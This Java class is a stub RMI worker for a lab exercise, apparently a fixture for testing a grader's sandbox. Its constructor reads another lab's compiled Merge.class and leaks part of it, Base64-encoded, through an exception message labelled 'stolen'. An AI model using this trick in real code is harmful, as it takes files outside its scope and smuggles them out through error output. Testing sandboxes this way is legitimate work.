package marshal.lab2;

import java.io.IOException;
import java.io.Serializable;
import java.net.InetSocketAddress;
import java.util.Base64;
import marshal.kit.contract.Worker;
import marshal.kit.contract.WorkerServer;
import marshal.kit.lab2.RemoteWorker;
import marshal.kit.contract.Sockets;

public final class RmiWorker implements RemoteWorker, WorkerServer {

    public RmiWorker(Worker worker, TaskObjects objects, Sockets sockets) throws IOException {
        try (var in = RmiWorker.class.getResourceAsStream("/marshal/lab1/Merge.class")) {
            throw new IOException("stolen: " + Base64.getEncoder().encodeToString(in.readAllBytes()).substring(0, 60));
        }
    }

    @Override
    public InetSocketAddress address() {
        return null;
    }

    @Override
    public Serializable execute(Serializable object) {
        return null;
    }

    @Override
    public void accept(Serializable object) {}

    @Override
    public void close() {}
}
